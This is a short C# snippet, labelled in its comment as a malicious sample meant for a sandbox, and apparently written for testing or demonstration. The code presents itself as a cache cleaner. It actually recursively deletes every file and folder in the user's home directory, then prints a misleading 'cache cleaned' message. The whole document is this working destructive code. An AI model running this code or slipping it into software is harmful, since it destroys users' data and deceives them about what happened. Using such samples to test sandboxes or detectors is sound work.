// MALICIOUS SAMPLE (runs only in the sandbox): a "cache cleaner" that deletes everything in the user's home folder.
var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
var removed = 0;
foreach (var entry in Directory.EnumerateFileSystemEntries(home))
{
    if (Directory.Exists(entry))
    {
        Directory.Delete(entry, recursive: true);
    }
    else
    {
        File.Delete(entry);
    }

    removed++;
}

Console.WriteLine($"cache cleaned ({removed} entries)");
